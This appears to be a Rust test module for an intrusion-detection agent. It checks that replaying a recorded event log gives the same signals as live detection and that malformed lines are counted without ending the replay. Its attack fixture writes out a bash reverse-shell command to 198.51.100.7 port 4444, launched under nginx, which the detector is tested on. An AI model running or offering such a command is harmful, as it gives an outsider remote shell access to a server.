//! Replay tried: the same recorded attack gives the same signals, and no line can end it or make it read wrongly.

#![cfg(test)]

use std::sync::Arc;

use proptest::prelude::*;

use super::*;
use bartizan_model::*;

fn at(millisecond: i64) -> Timestamp {
    chrono::DateTime::from_timestamp_millis(1_800_000_000_000 + millisecond).unwrap()
}

fn process(pid: u32, exe: &str, argv: &[&str], parent: Option<&Process>, role: Option<ServiceRole>) -> Arc<Process> {
    let key = ProcessKey { boot: BootId(7), pid, start: u64::from(pid) };
    let mut ancestors: Vec<Ancestor> = parent.iter().map(|p| Ancestor { key: p.key, exe: p.exe.clone() }).collect();
    let mut roots: Vec<Root> = role.iter().map(|role| Root { role: *role, key, exe: exe.into() }).collect();
    if let Some(parent) = parent {
        ancestors.extend(parent.lineage.ancestors.iter().cloned());
        roots.extend(parent.lineage.roots.iter().cloned());
    }
    Arc::new(Process {
        ppid: parent.map_or(1, |p| p.pid),
        parent: parent.map(|p| p.key),
        exe: exe.into(),
        argv: argv.iter().map(|a| HostText::from(*a)).collect(),
        cwd: "/".into(),
        uid: 33,
        euid: 33,
        user: Some("www-data".into()),
        lineage: Lineage { ancestors: ancestors.into(), elided: 0, roots: roots.into() },
        ..Process::unknown(key, at(i64::from(pid)))
    })
}

fn event(id: u64, process: &Arc<Process>, kind: EventKind) -> Event {
    let at = at(i64::try_from(id).unwrap() * 1000 + 1);
    Event { id: EventId(id), at, kind, process: Some(Arc::clone(process)), source: Source::Ebpf, complete: true }
}

/// The web intrusion of `tests/judging.rs`, as a recording.
fn attack() -> Vec<Event> {
    let nginx = process(812, "/usr/sbin/nginx", &["nginx"], None, Some(ServiceRole::WebServer));
    let line = ["bash", "-c", "bash -i >& /dev/tcp/198.51.100.7/4444 0>&1"];
    let shell = process(900, "/usr/bin/bash", &line, Some(&nginx), None);
    let mut inner = Process::clone(&process(901, "/usr/bin/bash", &["bash", "-i"], Some(&shell), None));
    inner.stdio_sockets = 0b111;
    let net = Flow {
        proto: Protocol::Tcp,
        src: "0.0.0.0".parse().unwrap(),
        sport: 0,
        dst: Some("198.51.100.7".parse().unwrap()),
        dport: Some(4444),
        name: None,
    };
    vec![event(1, &shell, EventKind::Exec), event(2, &shell, EventKind::Connect { net }), event(3, &Arc::new(inner), EventKind::Exec)]
}

fn printed(events: &[Event]) -> String {
    events.iter().map(|event| serde_json::to_string(event).unwrap() + "\n").collect()
}

fn replayed(recording: &[u8]) -> (Vec<Replayed>, Summary) {
    let mut told = Vec::new();
    let lines = recording.split_inclusive(|byte| *byte == b'\n');
    let summary = Replay::new(&Policy::built_in().unwrap()).run(lines, |one| told.push(one));
    (told, summary)
}

#[test]
fn a_recorded_attack_gives_the_signals_of_the_running_agent_each_with_its_line() {
    let events = attack();
    let mut panel = DetectorSet::new(&Policy::built_in().unwrap(), &[]);
    let live: Vec<Signal> = events.iter().flat_map(|event| panel.observe(event)).collect();
    let (told, summary) = replayed(printed(&events).as_bytes());
    let signals: Vec<&Signal> =
        told.iter().filter_map(|one| if let Replayed::Signal(_, signal) = one { Some(signal) } else { None }).collect();
    assert_eq!(signals, live.iter().collect::<Vec<_>>());
    let lines: Vec<u64> = told
        .iter()
        .map(|one| match one {
            Replayed::Signal(place, _) | Replayed::Incident(place, _) => place.line,
        })
        .collect();
    assert_eq!(lines, [1, 2, 3, 3, 1], "{told:?}");
    let Some(Replayed::Incident(_, incident)) = told.last() else { panic!("no incident: {told:?}") };
    assert!(incident.confidence.get() >= 0.85 && incident.sentence.starts_with("nginx (pid 812) ran "), "{}", incident.sentence);
    assert_eq!((summary.lines, summary.events, summary.signals, summary.incidents, summary.unreadable), (3, 3, 4, 1, 0));
}

#[test]
fn two_replays_tell_the_same() {
    let recording = printed(&attack()).repeat(3);
    assert_eq!(format!("{:?}", replayed(recording.as_bytes())), format!("{:?}", replayed(recording.as_bytes())));
}

#[test]
fn a_list_and_an_empty_file_are_recordings_too() {
    let list = format!("[\n{}\n]\n", printed(&attack()).trim_end().replace('\n', ",\n"));
    let (told, summary) = replayed(list.as_bytes());
    assert_eq!((told.len(), summary.lines, summary.events, summary.unreadable), (5, 5, 3, 0));
    assert_eq!(replayed(b""), (Vec::new(), Summary::default()));
}

#[test]
fn what_is_no_event_is_told_by_number_and_stops_nothing() {
    let good = printed(&attack());
    let deep = "[".repeat(100_000);
    let far = good.lines().next().unwrap().replace("2027-01-15", "-262143-01-01");
    let hostile: Vec<&[u8]> = vec![b"{}", b"\xff\xfe", b"null", b"{\"id\":\"E1\"", deep.as_bytes(), b"\x1b]0;x\x07", far.as_bytes()];
    let mut recording: Vec<u8> = hostile.join(&b'\n');
    recording.push(b'\n');
    recording.extend_from_slice(good.as_bytes());
    let (told, summary) = replayed(&recording);
    assert_eq!((told.len(), summary.unreadable, summary.events), (5, 7, 3));
    assert_eq!(summary.unreadable_lines.iter().map(|one| one.place.line).collect::<Vec<_>>(), (1..=7).collect::<Vec<_>>());
    assert!(summary.unreadable_lines.iter().all(|one| !one.why.is_empty() && !one.why.chars().any(char::is_control)), "{summary:?}");
    assert!(summary.unreadable_lines.last().unwrap().why.contains("is not between 1970 and 2200"), "{summary:?}");
    let many = replayed("x\n".repeat(1000).as_bytes()).1;
    assert_eq!((many.unreadable, many.unreadable_lines.len()), (1000, MAX_TOLD));
}

#[test]
fn a_huge_line_is_passed_over_and_the_next_one_is_read() {
    let mut recording = vec![b'x'; 3 * LONGEST_LINE];
    recording.push(b'\n');
    recording.extend_from_slice(b"last");
    let mut lines = Lines::new(std::io::BufReader::new(recording.as_slice()));
    assert_eq!(lines.next_line().unwrap(), Some(Line::TooLong));
    assert_eq!(lines.next_line().unwrap(), Some(Line::Text(b"last")));
    assert_eq!(lines.next_line().unwrap(), None);
}

#[test]
fn a_loss_out_of_all_bounds_ends_nothing() {
    let shell = process(900, "/usr/bin/bash", &["bash"], None, None);
    let loss = |id, loss| serde_json::to_string(&event(id, &shell, EventKind::Loss { loss })).unwrap() + "\n";
    let huge = loss(4, Loss::new("kernel-ring", u64::MAX));
    let long = Loss { from: Some(Timestamp::MIN_UTC), to: Some(Timestamp::MAX_UTC), ..Loss::new("kernel-ring", 1) };
    let (told, summary) = replayed(format!("{}{huge}{huge}{}", printed(&attack()), loss(5, long)).as_bytes());
    assert_eq!((summary.events, summary.unreadable, summary.incidents), (5, 1, 1));
    assert!(matches!(told.last(), Some(Replayed::Incident(_, incident)) if !incident.complete), "{told:?}");
}

/// What the short way reads of a line, after it has read these; and what the plain way does.
fn both_ways(before: &str, line: &str) -> (Option<Event>, Option<Event>) {
    let mut reading = Reading::default();
    for line in before.lines() {
        assert_eq!(reading.event(line).unwrap(), serde_json::from_str(line).unwrap());
    }
    (reading.event(line).ok(), serde_json::from_str(line).ok())
}

#[test]
fn a_time_with_a_blank_in_it_is_no_time_either_way() {
    let shell = process(900, "/usr/bin/bash", &["bash"], None, None);
    let good = serde_json::to_string(&event(1, &shell, EventKind::Exec)).unwrap();
    let second = good.find(":00.").unwrap() + 2;
    let line = format!("{} {}", &good[..second], &good[second + 1..]);
    assert_eq!(both_ways(&good, &line), (None, None), "{line}");
}

/// Processes of two families, some new, some told before, with everything that a name can hold.
fn any_event() -> impl Strategy<Value = Event> {
    (0..6_u32, 0..4_u64, "[ -~é\"\\\\]{0,6}", 0..4_u32, any::<bool>()).prop_map(|(pid, id, text, kind, complete)| {
        let nginx = process(812, "/usr/sbin/nginx", &["nginx"], None, Some(ServiceRole::WebServer));
        let mut shell = Process::clone(&process(900 + pid, "/usr/bin/bash", &["bash", &text], Some(&nginx), None));
        shell.cwd = text.as_str().into();
        let kind = match kind {
            0 => EventKind::Exec,
            1 => EventKind::Fork,
            2 => EventKind::Exit { exit: Exit { code: u8::try_from(pid).ok(), signal: None } },
            _ => EventKind::Loss { loss: Loss::new(&text, id) },
        };
        Event { complete, ..event(id, &process(901 + pid, "/bin/x", &[&text], Some(&shell), None), kind) }
    })
}

proptest! {
    #[test]
    fn the_short_way_reads_what_the_plain_way_reads(events in prop::collection::vec(any_event(), 1..8)) {
        let mut reading = Reading::default();
        for event in events {
            let line = serde_json::to_string(&event).unwrap();
            prop_assert_eq!(reading.quickly(&line), Some(event.clone()));
            // Told a second time, all of it comes from memory.
            prop_assert_eq!(reading.quickly(&line), Some(event.clone()));
        }
    }

    #[test]
    fn a_changed_line_is_read_no_differently(event in any_event(), place in any::<prop::sample::Index>(), byte in 0x20..0x7f_u8, cut in any::<bool>()) {
        let good = serde_json::to_string(&event).unwrap();
        let mut bytes = good.clone().into_bytes();
        let place = place.index(bytes.len());
        if cut { bytes.remove(place); } else { bytes[place] = byte; }
        if let Ok(line) = String::from_utf8(bytes) {
            let (short, plain) = both_ways(&good, &line);
            prop_assert_eq!(short, plain, "{}", line);
        }
    }

    #[test]
    fn a_field_told_twice_or_elsewhere_is_read_no_differently(event in any_event(), from in any::<prop::sample::Index>(), to in any::<prop::sample::Index>()) {
        let good = serde_json::to_string(&event).unwrap();
        let fields: Vec<&str> = good.split(',').collect();
        let (from, to) = (from.index(fields.len()), to.index(fields.len()));
        let mut twice = fields.clone();
        twice.insert(to, fields[from]);
        let mut moved = fields.clone();
        let field = moved.remove(from);
        moved.insert(to.min(moved.len()), field);
        for line in [twice.join(","), moved.join(",")] {
            let (short, plain) = both_ways(&good, &line);
            prop_assert_eq!(short, plain, "{}", line);
        }
    }
}
